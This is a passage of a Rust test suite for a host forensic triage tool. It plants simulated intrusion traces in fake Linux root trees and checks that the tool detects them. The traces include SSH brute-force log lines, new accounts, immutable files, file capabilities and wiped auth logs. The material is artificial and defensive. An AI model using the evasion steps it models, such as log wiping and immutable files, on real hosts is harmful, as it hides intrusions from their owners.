    if let Some(dir) = std::env::var_os("FERRET_PLANTED_KEEP") {
        let dst = PathBuf::from(dir).join(format!(
            "{}{}-{}",
            format!("{d:?}").to_lowercase(),
            if wipe_auth { "-wiped" } else { "" },
            if planted { "planted" } else { "clean" }
        ));
        if dst.exists() {
            clear_flags(&dst);
            std::fs::remove_dir_all(&dst).unwrap();
        }
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        let st = Command::new("cp")
            .arg("-a")
            .arg(root)
            .arg(&dst)
            .status()
            .unwrap();
        assert!(st.success());
    }
}

fn run(d: Distro, wipe_auth: bool) {
    // The clean tree of the same shape: nothing at or above medium.
    let (_t2, croot) = build(d, false, false);
    if !wipe_auth {
        keep(d, false, false, &croot);
    }
    let c = triage_root(
        &HostRoot::new(&croot).unwrap(),
        &TriageOptions::default(),
        &Control::new(),
    );
    let loud: Vec<String> = c
        .findings
        .iter()
        .filter(|f| f.severity >= Severity::Medium)
        .map(|f| format!("{} {} {}", f.severity, f.id, f.subject))
        .collect();
    if std::env::var_os("FERRET_PLANTED_ALL").is_some() {
        for f in &c.findings {
            eprintln!("  clean {d:?}: {} {} {}", f.severity, f.id, f.subject);
        }
    }

    let (_t, root) = build(d, true, wipe_auth);
    let flags = immutable(&root);
    if !flags {
        eprintln!("note: chattr +i does not work here: the immutable-key item is not planted");
    }
    let caps = capabilities(&root);
    if !caps {
        eprintln!("note: setcap does not work here: the capability items are not planted");
    }
    keep(d, true, wipe_auth, &root);
    let r: Report = triage_root(
        &HostRoot::new(&root).unwrap(),
        &TriageOptions::default(),
        &Control::new(),
    );
    clear_flags(&root);
    let mut missed = Vec::new();
    let mut table = String::new();
    for e in expectations(d, wipe_auth) {
        if !flags && e.id == "evasion.immutable-file" {
            continue;
        }
        if !caps && (e.id.contains("capability") || e.id == "pkg.caps-changed") {
            continue;
        }
        match r.findings.iter().find(|f| matches(f, &e)) {
            Some(f) if f.severity >= e.min => {
                let ev = f.evidence.first().map_or(String::new(), |ev| {
                    format!(
                        "{}:{}",
                        ev.path,
                        ev.line.map_or(String::new(), |l| l.to_string())
                    )
                });
                let _ = writeln!(
                    table,
                    "found  {:<48} {} {} {} [{ev}]",
                    e.item, f.severity, f.id, f.subject
                );
            }
            Some(f) => {
                let _ = writeln!(
                    table,
                    "WEAK   {:<48} {} {} (want >= {})",
                    e.item, f.severity, f.id, e.min
                );
                missed.push(e.item);
            }
            None => {
                let _ = writeln!(table, "MISSED {:<48} want {} {:?}", e.item, e.id, e.subject);
                missed.push(e.item);
            }
        }
    }
    eprintln!(
        "{d:?}{}:\n{table}",
        if wipe_auth { " (auth log emptied)" } else { "" }
    );
    if std::env::var_os("FERRET_PLANTED_ALL").is_some() {
        for f in &r.findings {
            eprintln!("  planted {d:?}: {} {} {}", f.severity, f.id, f.subject);
        }
    }
    if d == Distro::Rocky9 {
        // secure and audit.log hold the same 500 guesses: counted once.
        let f = r
            .findings
            .iter()
            .find(|f| f.id == "logs.login-after-failures")
            .unwrap();
        let detail = f.detail.as_deref().unwrap_or_default();
        assert!(detail.contains("500 failed"), "{detail}");
        // The log analysis of the same root: each guess once, audit's twins dropped.
        let hr = HostRoot::new(&root).unwrap();
        let logs = ferret::logs::analyze_root(
            &hr,
            &ferret::logs::AnalyzeOptions::default(),
            &Control::new(),
        );
        let src = logs.sources.get(ATTACKER.as_bytes()).unwrap();
        assert_eq!(src.failures, 500);
        let audit = logs.files.iter().find(|f| f.audit).unwrap();
        if wipe_auth {
            assert_eq!(audit.duplicates, 0);
        } else {
            assert!(audit.duplicates >= 500, "{audit:?}");
        }
    }
    assert!(missed.is_empty(), "{d:?}: missed {missed:?}");
    assert!(loud.is_empty(), "{d:?} clean tree: {loud:#?}");
    let errors: Vec<String> = c.errors.iter().map(ToString::to_string).collect();
    assert!(errors.is_empty(), "{d:?} clean tree: {errors:#?}");
}

#[test]
fn ubuntu_planted() {
    run(Distro::Ubuntu, false);
}

#[test]
fn centos7_planted() {
    run(Distro::Centos7, false);
}

#[test]
fn rocky9_planted() {
    run(Distro::Rocky9, false);
}

/// secure emptied after the intrusion; audit.log still holds the brute force, the login, the
/// new account, the sudo command and the security agent stopped.
#[test]
fn rocky9_secure_emptied_audit_kept() {
    run(Distro::Rocky9, true);
}

/// The auth log emptied after the intrusion; the journal (journald writes it beside rsyslog)
/// still holds the brute force, the login and the new account.
#[test]
fn ubuntu_auth_log_emptied_journal_kept() {
    if !Path::new("/usr/lib/systemd/systemd-journal-remote").exists() {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "systemd-journal-remote missing in CI (package systemd-journal-remote)"
        );
        eprintln!("skipped: systemd-journal-remote not installed");
        return;
    }
    run(Distro::Ubuntu, true);
}

/// An auth log in a timestamp format the parser does not read says nothing to the analysis:
/// the report names the file as an error instead of passing it as a quiet log.
#[test]
fn auth_log_in_an_unknown_format_is_an_error() {
    let (_t, root) = build(Distro::Ubuntu, false, false);
    let mut log = String::new();
    for i in 0..20 {
        let _ = writeln!(
            log,
            "[06-Dec-2026 10:00:{i:02}] web-ubuntu sshd[{}]: Failed password for root from {ATTACKER} port {} ssh2",
            300 + i,
            40_000 + i
        );
    }
    write(&root, "var/log/auth.log", log);
    let r = triage_root(
        &HostRoot::new(&root).unwrap(),
        &TriageOptions::default(),
        &Control::new(),
    );
    let e = r
        .errors
        .iter()
        .find(|e| e.error.path.as_deref() == Some("/var/log/auth.log"))
        .unwrap_or_else(|| panic!("no error about the auth log: {:#?}", r.errors));
    assert_eq!(e.module, "logs");
    assert_eq!(e.error.line, Some(1));
    assert!(
        e.error
            .message
            .starts_with("20 of 20 lines are in a format"),
        "{e}"
    );
}
